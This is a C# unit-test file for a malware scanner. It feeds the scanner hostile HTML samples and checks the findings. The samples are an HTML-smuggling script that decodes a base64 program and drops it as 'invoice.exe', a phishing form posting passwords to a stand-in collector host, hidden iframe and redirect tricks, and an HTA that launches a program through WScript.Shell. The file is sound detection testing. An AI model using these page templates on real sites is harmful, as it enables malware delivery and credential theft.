using System.Text;
using Crible.Model;

namespace Crible.Tests.Scanners.Web;

/// <summary>Pages written by the tests (inert: reserved names, nothing fetched).</summary>
public sealed class HtmlThreatTests
{
    private static readonly byte[] Program = File.ReadAllBytes(TestPaths.Corpus("strelka-fixtures", "test.exe"));

    private static Task<Report> Analyse(string html, string name) => TestEngine.Default.AnalyseAsync(Encoding.UTF8.GetBytes(html), name);

    [Fact]
    public async Task A_page_that_smuggles_a_program_is_malicious()
    {
        var payload = Convert.ToBase64String(Program);
        var html = $$"""
            <!doctype html><html><body><script>
            var b64 = "{{payload}}";
            var bytes = Uint8Array.from(atob(b64), c => c.charCodeAt(0));
            var blob = new Blob([bytes], { type: "application/octet-stream" });
            if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, "invoice.exe"); }
            else { var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "invoice.exe"; a.click(); }
            </script></body></html>
            """;

        var report = await Analyse(html, "invoice.html");

        var finding = Assert.Single(report.AllFindings, f => f.Finding.Id == "html-smuggling").Finding;
        Assert.Equal(Severity.Malicious, finding.Severity);
        Assert.Contains("T1027.006", finding.Attack);
        Assert.Contains(report.Nodes, n => n.Name.EndsWith(".exe", StringComparison.Ordinal) && n.Relation == Relation.Decoded);
    }

    [Fact]
    public async Task A_password_form_posting_to_a_foreign_host_is_suspicious_and_one_posting_home_is_not()
    {
        const string phishing = """
            <html><head><title>Sign in</title></head><body>
            <form method="post" action="https://collect.example.net/gate.php"><input type="email" name="u"><input type="password" name="p"></form>
            </body></html>
            """;
        const string login = """
            <html><head><link rel="canonical" href="https://www.example.com/login"></head><body>
            <form method="post" action="https://accounts.example.com/session"><input type="text" name="u"><input type="password" name="p"></form>
            <form method="post" action="/login"><input type="password" name="p2"></form>
            </body></html>
            """;

        var phishingReport = await Analyse(phishing, "statement.html");
        var loginReport = await Analyse(login, "login.html");

        Assert.Contains(phishingReport.AllFindings, f => f.Finding.Id == "password-form-foreign-host" && f.Finding.Severity == Severity.Suspicious);
        Assert.Contains(phishingReport.Iocs, i => i.Value == "https://collect.example.net/gate.php");
        Assert.DoesNotContain(loginReport.AllFindings, f => f.Finding.Id.StartsWith("password-form", StringComparison.Ordinal));
        Assert.Equal(Verdict.Clean, loginReport.Verdict);
    }

    [Fact]
    public async Task Redirects_and_data_frames_are_reported_with_their_targets()
    {
        const string html = """
            <html><head><meta http-equiv="refresh" content="0; url=https://next.example.org/landing"></head>
            <body><iframe src="data:text/html;base64,PGgxPmhpPC9oMT4=" width="0" height="0"></iframe>
            <script>window.location.href = "https://other.example.org/go";</script></body></html>
            """;

        var report = await Analyse(html, "r.html");

        Assert.Contains(report.AllFindings, f => f.Finding.Id == "meta-refresh" && f.Finding.Severity == Severity.Info);
        Assert.Contains(report.AllFindings, f => f.Finding.Id == "iframe-data-uri" && f.Finding.Severity == Severity.Suspicious);
        Assert.Contains(report.Iocs, i => i.Value == "https://next.example.org/landing");
        Assert.Contains(report.Iocs, i => i.Value == "https://other.example.org/go");
    }

    [Fact]
    public async Task An_html_application_is_identified_and_its_scripts_emitted_by_language()
    {
        const string hta = """
            <html><head><hta:application id="app" windowstate="minimize"></head>
            <script language="VBScript">
            Set shell = CreateObject("WScript.Shell")
            shell.Run "calc.exe", 0
            </script>
            <script language="JScript">var x = 1 + 1;</script>
            </html>
            """;

        var report = await Analyse(hta, "update.hta");

        Assert.Equal("hta", report.Nodes[0].Kind);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "hta-application" && f.Attack.Contains("T1218.005"));
        Assert.Contains(report.Nodes, n => n.Name == "script-1.vbs");
        Assert.Contains(report.Nodes, n => n.Name == "script-2.js");
    }

    [Fact]
    public async Task A_windows_script_file_gives_its_script_blocks()
    {
        const string wsf = """
            <?xml version="1.0"?>
            <job id="main">
            <script language="JScript"><![CDATA[
            var shell = new ActiveXObject("WScript.Shell");
            ]]></script>
            </job>
            """;

        var report = await Analyse(wsf, "job.wsf");

        Assert.Equal("wsf", report.Nodes[0].Kind);
        var block = Assert.Single(report.Nodes, n => n.Name == "script-1.js");
        Assert.Equal(Relation.Decoded, block.Relation);
    }
}
